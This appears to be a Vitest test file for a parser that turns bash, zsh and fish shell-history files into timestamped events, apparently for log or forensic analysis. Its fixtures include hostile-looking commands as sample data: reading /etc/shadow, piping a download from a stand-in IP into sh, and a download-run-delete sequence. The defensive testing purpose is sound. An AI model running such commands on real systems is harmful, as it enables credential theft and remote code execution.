import { describe, expect, it } from "vitest";
import { collect } from "../../testing/collect.ts";
import { checkFormat } from "../../testing/format.ts";
import { format } from "./shell-history.ts";

describe("linux/shell-history", () => {
  checkFormat(format, [
    [
      "bash",
      "#1709461353\nsudo cat /etc/shadow\n#1709461354\nls\n",
      2,
      {
        "@time": "2024-03-03T10:22:33.000Z",
        "process.command_line": "sudo cat /etc/shadow",
        "process.name": "cat",
      },
    ],
    [
      "bash, several lines",
      "#1709461353\nfor i in 1 2\ndo echo $i\ndone\n#1709461354\nls\n",
      2,
      { "process.command_line": "for i in 1 2\ndo echo $i\ndone" },
    ],
    [
      "zsh",
      ": 1709461353:12;curl http://203.0.113.5/x | sh\n",
      1,
      { "event.duration": 12e9, "process.name": "curl" },
    ],
    [
      "zsh, joined",
      ": 1709461353:0;echo a \\\nb\n: 1709461354:0;ls\n",
      2,
      { "process.command_line": "echo a \\\nb" },
    ],
    [
      "fish",
      "- cmd: ls -la\n  when: 1709461353\n  paths:\n    - x\n- cmd: id\n",
      2,
      { "@time": "2024-03-03T10:22:33.000Z", "process.command_line": "ls -la" },
    ],
    ["time only", "#1709461353\n", 0, {}],
  ]);
  it("takes a plain file for a history by its content and its name", () => {
    const text = "ls -la\ncd /tmp\nwget http://203.0.113.5/x\n./x --quiet\nrm x\n";
    expect(collect(text, [format], { fileName: ".bash_history" }).events).toHaveLength(5);
    expect(collect(text, [format], { fileName: "notes.txt" }).events).toHaveLength(0);
    expect(
      collect("Dear all,\nplease find below\n", [format], { fileName: "history.txt" }).events,
    ).toHaveLength(0);
  });
});
